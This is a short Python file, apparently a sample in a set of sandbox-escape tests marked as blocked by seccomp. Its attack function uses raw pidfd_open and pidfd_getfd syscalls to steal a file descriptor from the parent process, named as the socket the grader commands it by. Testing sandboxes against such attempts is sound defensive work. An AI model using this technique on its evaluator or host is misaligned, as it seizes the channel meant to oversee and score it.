"""Takes a descriptor out of its parent's table: the socket that the grader commands it by."""
# stopped by: seccomp
import ctypes
import os


def attack():
    libc = ctypes.CDLL(None, use_errno=True)
    parent = libc.syscall(434, os.getppid(), 0)
    for number in range(3, 12):
        descriptor = libc.syscall(438, parent, number, 0)
        if descriptor >= 0:
            return f"done: {descriptor}"
    raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
